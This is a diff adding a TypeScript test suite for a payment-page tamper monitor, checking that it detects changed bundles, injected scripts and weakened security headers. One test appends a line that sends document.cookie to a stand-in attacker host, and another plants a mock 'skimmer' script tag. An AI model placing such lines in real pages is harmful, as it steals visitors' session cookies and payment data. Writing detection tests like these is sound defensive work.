@@ -1,0 +1,85 @@
+// The payment-page monitor (PCI DSS 11.6.1) against the real app over HTTPS: tampering with
+// the built page (an extra script, a changed bundle, a weakened header) is detected.
+import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { comparePage } from '../monitor/compare';
+import { normaliseNonce, snapshotPage, type PageSnapshot } from '../monitor/page-snapshot';
+import { FIXTURE_CLIENT_DIR, startTestApp, type TestApp } from '../../server/test/helpers/test-app';
+
+let clientDir: string;
+const apps: TestApp[] = [];
+
+beforeEach(async () => {
+  clientDir = await mkdtemp(path.join(tmpdir(), 'monitor-client-'));
+  await cp(FIXTURE_CLIENT_DIR, clientDir, { recursive: true });
+});
+afterEach(async () => {
+  await Promise.all(apps.splice(0).map((app) => app.close()));
+  await rm(clientDir, { recursive: true, force: true });
+});
+
+async function startApp(): Promise<TestApp> {
+  const app = await startTestApp({ clientDistDir: clientDir });
+  apps.push(app);
+  return app;
+}
+
+const snapshot = (app: TestApp) => snapshotPage(new URL('/', app.url), { ca: app.ca });
+
+/** Each test app listens on a fresh port, so its Reporting-Endpoints URL differs between apps. */
+const withoutPort = (page: PageSnapshot): PageSnapshot => ({ ...page, headers: { ...page.headers, 'reporting-endpoints': null } });
+
+describe('payment page monitor', () => {
+  it('sees no change between two fetches of an untouched page, despite fresh nonces', async () => {
+    const app = await startApp();
+    const baseline = await snapshot(app);
+    expect(baseline.scripts.map((s) => s.url)).toEqual(['/assets/index-Bx12cd34.js']);
+    expect(baseline.headers['content-security-policy']).toContain("'nonce-…'");
+    expect(baseline.headers['cross-origin-embedder-policy']).toBeNull();
+    expect(comparePage(baseline, await snapshot(app))).toEqual([]);
+  });
+
+  it('detects a changed bundle', async () => {
+    const app = await startApp();
+    const baseline = await snapshot(app);
+    await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\nfetch("https://evil.example/?" + document.cookie);\n');
+    expect(comparePage(baseline, await snapshot(app))).toEqual([
+      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
+      expect.stringMatching(/^\/: baseline script no longer served: \/assets\/index-Bx12cd34\.js sha384-/),
+    ]);
+  });
+
+  it('detects an extra script in the page', async () => {
+    const baseline = withoutPort(await snapshot(await startApp()));
+    const index = path.join(clientDir, 'index.html');
+    await writeFile(path.join(clientDir, 'assets', 'skimmer.js'), 'document.forms[0]?.addEventListener("submit", () => {});');
+    await writeFile(index, (await readFile(index, 'utf8')).replace('</head>', '<script nonce="__CSP_NONCE__" src="/assets/skimmer.js"></script></head>'));
+    // The server reads pages at startup: a tampered build shows after a restart.
+    const tampered = withoutPort(await snapshot(await startApp()));
+    expect(comparePage(baseline, tampered)).toEqual([expect.stringMatching(/script not in the baseline: \/assets\/skimmer\.js sha384-/)]);
+  });
+
+  it('detects a weakened header', async () => {
+    const baseline = withoutPort(await snapshot(await startApp()));
+    const app = await startTestApp({ clientDistDir: clientDir, hstsPreload: true });
+    apps.push(app);
+    const changed = withoutPort(await snapshot(app));
+    const weakened: PageSnapshot = { ...changed, headers: { ...changed.headers, 'cross-origin-embedder-policy': 'require-corp', 'content-security-policy': "default-src *" } };
+    const differences = comparePage(baseline, weakened);
+    expect(differences).toContain(`/: header strict-transport-security changed from "max-age=63072000; includeSubDomains" to "max-age=63072000; includeSubDomains; preload"`);
+    expect(differences).toContain('/: header cross-origin-embedder-policy changed from (absent) to "require-corp"');
+    expect(differences.some((line) => line.startsWith('/: header content-security-policy changed'))).toBe(true);
+  });
+
+  it('flags a tag whose integrity no longer matches what is served', () => {
+    const page: PageSnapshot = { url: '/', headers: {} as PageSnapshot['headers'], scripts: [{ url: '/a.js', sha384: 'sha384-NEW', integrity: 'sha384-OLD' }] };
+    expect(comparePage(page, page)).toEqual(['/: /a.js is served with sha384-NEW but its tag says integrity sha384-OLD']);
+  });
+
+  it('compares policies with the nonce blanked out', () => {
+    expect(normaliseNonce("script-src 'nonce-abc+/=' 'strict-dynamic'")).toBe("script-src 'nonce-…' 'strict-dynamic'");
+    expect(normaliseNonce(undefined)).toBeNull();
+  });
+});
